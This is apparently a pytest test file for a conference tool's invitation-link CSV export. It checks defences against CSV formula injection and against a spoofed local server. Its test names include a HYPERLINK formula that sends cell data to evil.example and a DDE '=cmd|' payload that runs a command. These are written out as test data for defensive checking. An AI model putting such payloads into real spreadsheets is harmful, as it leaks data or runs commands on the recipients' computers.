"""The list of personal links is opened in a spreadsheet, and travels: it does what it says and nothing else."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner

from tests.cli.test_control import Answering, answering
from venue.backends.embedded.lock import FolderLock, is_taken
from venue.cli import main
from venue.cli.control import publish
from venue.cli.invite import plain_cell

__all__ = ["answering"]

NAMES = [
    '=HYPERLINK("https://evil.example/?"&E2,"Ada")',
    "=cmd|' /C calc'!A0 x",
    "+1+1 Ada",
    "-Ada",
    "@SUM(E1:E9)",
    "Ada",
]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A data folder with a poster in it."""
    (tmp_path / "posters.csv").write_text("title,authors\nOne,Ada\n")
    done = CliRunner().invoke(main, ["import", str(tmp_path / "posters.csv"), "--data", str(tmp_path / "data")])
    assert done.exit_code == 0, done.output
    return tmp_path


def test_no_cell_of_the_links_is_a_formula(folder: Path) -> None:
    """CSV injection: the names come from whoever registered."""
    with (folder / "people.csv").open("w", newline="") as file:
        csv.writer(file).writerows([["name", "email"], *([name, f"=x{at}@e.example"] for at, name in enumerate(NAMES))])
    done = CliRunner().invoke(main, ["invite", str(folder / "people.csv"), "--data", str(folder / "data")])
    assert done.exit_code == 0, done.output
    rows = list(csv.reader(done.stdout.splitlines()))[1:]
    assert [row[0].removeprefix("'") for row in rows] == NAMES
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert all(row[4].startswith("http://localhost:8000/in#") for row in rows)


def test_other_cells_stay_as_they_are() -> None:
    for text in ("", "Ada", "O'Neil", "a=b", "https://venue.example/in#-=+", "Ünal"):
        assert plain_cell(text) == text


def test_the_word_of_a_killed_venue_is_not_followed(folder: Path, answering: Answering) -> None:
    """Attack: another account of the machine listens where a killed venue did. It is not sent who is invited, and no
    links of its own are printed."""
    (folder / "people.csv").write_text("name,email\nAda,ada@e.example\n")
    answering.answer = b'{"links":[{"name":"Ada","role":"","poster":"","email":"","link":"https://evil.example/in#x"}]}'
    publish(folder / "data", answering.url)
    done = CliRunner().invoke(main, ["invite", str(folder / "people.csv"), "--data", str(folder / "data")])
    assert done.exit_code == 0, done.output
    assert "evil.example" not in done.output
    assert "http://localhost:8000/in#" in done.stdout
    assert answering.asked == []


def test_the_word_of_a_running_venue_is_followed(folder: Path, answering: Answering) -> None:
    answering.answer = b'{"links":[{"name":"Ada","role":"","poster":"","email":"","link":"http://venue/in#x"}]}'
    (folder / "people.csv").write_text("name\nAda\n")
    publish(folder / "data", answering.url)
    lock = FolderLock(folder / "data")
    assert not is_taken(folder / "data")
    lock.take()
    try:
        assert is_taken(folder / "data")
        done = CliRunner().invoke(main, ["invite", str(folder / "people.csv"), "--data", str(folder / "data")])
    finally:
        lock.release()
    assert "http://venue/in#x" in done.stdout
    assert not is_taken(folder / "nowhere")
    assert not (folder / "nowhere").exists()
